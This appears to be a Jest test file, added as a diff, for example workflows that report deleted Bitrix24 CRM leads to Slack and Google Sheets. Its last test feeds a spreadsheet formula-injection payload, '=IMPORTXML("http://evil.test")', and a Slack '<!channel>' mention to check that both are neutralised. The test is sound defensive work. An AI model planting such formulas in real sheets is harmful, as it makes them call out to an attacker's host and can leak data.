@@ -1,0 +1,142 @@
+import { readdir } from 'node:fs/promises';
+
+import { EXAMPLES } from '../../demo/readExample.mjs';
+import { ACME, EXAMPLES_FOLDER, exampleText, type ExampleWorld, openExampleWorld } from './support/exampleWorld.mjs';
+
+jest.setTimeout(180_000);
+
+let world: ExampleWorld;
+beforeAll(async () => {
+	world = await openExampleWorld();
+});
+afterAll(async () => await world?.close());
+beforeEach(() => {
+	world.services.rows.length = 0;
+	world.services.messages.length = 0;
+});
+
+const recycleBin = '<https://some-domain.bitrix24.com/crm/recyclebin/|Recycle bin>';
+
+describe('the examples', () => {
+	test('are all tested here', async () => {
+		const files = (await readdir(EXAMPLES_FOLDER)).filter((name) => name.endsWith('.json'));
+		expect(files.sort()).toEqual(EXAMPLES.map((name) => `${name}.json`).sort());
+	});
+
+	test.each(EXAMPLES)('%s brings no credentials, no data and no address of somebody else', async (name) => {
+		const text = await exampleText(name);
+		for (const key of ['credentials', 'webhookId', 'instanceId', 'active', 'staticData']) {
+			expect(text).not.toContain(`"${key}"`);
+		}
+		expect(JSON.parse(text).pinData).toEqual({});
+	});
+});
+
+describe('a deleted lead', () => {
+	test('is told on Slack: who, which lead, which portal, and where to find it', async () => {
+		const { portal, services } = world;
+		const id = await world.activate('deleted-lead-to-slack');
+		portal.leads.add(ACME);
+		portal.leads.delete(ACME.ID);
+		await world.succeeded(id, 1);
+		const { ID } = portal.leads.add();
+		portal.leads.delete(ID, { by: 'robot' });
+		await world.succeeded(id, 2);
+		await world.client.deactivate(id);
+		expect(services.messages).toEqual([
+			{
+				channel: '#leads',
+				text: `Lead #1000983 was deleted by Vadim Valeev on some-domain.bitrix24.com\n${recycleBin}`,
+			},
+			{ channel: '#leads', text: `Lead #${ID} was deleted by a robot on some-domain.bitrix24.com\n${recycleBin}` },
+		]);
+	});
+
+	test('becomes a row in Google Sheets, below headings', async () => {
+		const { portal, services } = world;
+		const id = await world.activate('deleted-lead-to-google-sheets');
+		const leads = [portal.leads.add(), portal.leads.add()].map(({ ID }) => Number(ID));
+		for (const [index, lead] of leads.entries()) {
+			portal.leads.delete(lead);
+			await world.succeeded(id, index + 1);
+		}
+		await world.client.deactivate(id);
+		const [headings = [], ...rows] = services.rows;
+		expect(headings).toEqual(expect.arrayContaining(['event', 'leadId', 'sentAt', 'portalDomain', 'userName']));
+		const shown = rows.map((row) => Object.fromEntries(headings.map((name, index) => [name, row[index]])));
+		const row = { event: 'ONCRMLEADDELETE', portalDomain: 'some-domain.bitrix24.com', userName: 'Vadim Valeev' };
+		expect(shown).toEqual(leads.map((leadId) => expect.objectContaining({ ...row, leadId })));
+	});
+});
+
+describe('the lead archive', () => {
+	let keep: string;
+	let told: string;
+	beforeAll(async () => {
+		keep = await world.activate('lead-archive-keep');
+		told = await world.activate('lead-archive-deleted-lead');
+	});
+
+	test('tells name, company, phone, owner and value of a lead that is gone, as they were last', async () => {
+		const { portal, services } = world;
+		portal.leads.add({ ...ACME, TITLE: 'Acme', OPPORTUNITY: '1.00' });
+		await world.succeeded(keep, 1);
+		portal.leads.update(ACME.ID, { TITLE: 'Acme Ltd', OPPORTUNITY: '2500.00' });
+		await world.succeeded(keep, 2);
+		portal.leads.delete(ACME.ID);
+		await world.succeeded(told, 1);
+		const [message] = services.messages;
+		expect(message?.text.split('\n')).toEqual([
+			"Lead 'Acme Ltd' (#1000983) was deleted by Vadim Valeev on some-domain.bitrix24.com",
+			'Acme &amp; Sons, +1 202 555 0143, owner Olga Orlova, 2500 EUR',
+			recycleBin,
+		]);
+		expect(services.rows).toEqual([
+			['deletedAt', 'leadId', 'name', 'company', 'phone', 'owner', 'value', 'deletedBy', 'portal', 'recycleBin'],
+			[
+				expect.stringMatching(/^\d{4}-.*Z$/),
+				1000983,
+				'Acme Ltd',
+				'Acme & Sons',
+				'+1 202 555 0143',
+				'Olga Orlova',
+				'2500 EUR',
+				'Vadim Valeev',
+				'some-domain.bitrix24.com',
+				'https://some-domain.bitrix24.com/crm/recyclebin/',
+			],
+		]);
+	});
+
+	test('tells by number a lead that it has never seen, whoever deleted it', async () => {
+		const { portal, services, client } = world;
+		await client.deactivate(keep);
+		const { ID } = portal.leads.add();
+		portal.leads.delete(ID, { by: 'robot' });
+		await world.succeeded(told, 2);
+		await client.activate(keep);
+		const text = `Lead #${ID} was deleted by a robot on some-domain.bitrix24.com\n${recycleBin}`;
+		expect(services.messages).toEqual([{ channel: '#leads', text }]);
+	});
+
+	test('knows the owner by number where the app may not look people up', async () => {
+		const { portal, services } = world;
+		portal.app.scope = ['crm'];
+		const { ID } = portal.leads.add({ TITLE: 'Small', ASSIGNED_BY_ID: '15' });
+		await world.succeeded(keep, 3);
+		portal.leads.delete(ID);
+		await world.succeeded(told, 3);
+		expect(services.messages[0]?.text).toContain(`Lead 'Small' (#${ID})`);
+		expect(services.messages[0]?.text).toContain('\nowner user #15\n');
+	});
+
+	test('lets nobody reach others through a lead’s title: no mention on Slack, no formula in the sheet', async () => {
+		const { portal, services } = world;
+		const { ID } = portal.leads.add({ TITLE: '<!channel>', COMPANY_TITLE: '=IMPORTXML("http://evil.test")' });
+		await world.succeeded(keep, 4);
+		portal.leads.delete(ID);
+		await world.succeeded(told, 4);
+		expect(services.messages[0]?.text).toContain("'&lt;!channel>'");
+		expect([services.rows[1]?.[3], services.valueInputOption]).toEqual(['=IMPORTXML("http://evil.test")', 'RAW']);
+	});
+});
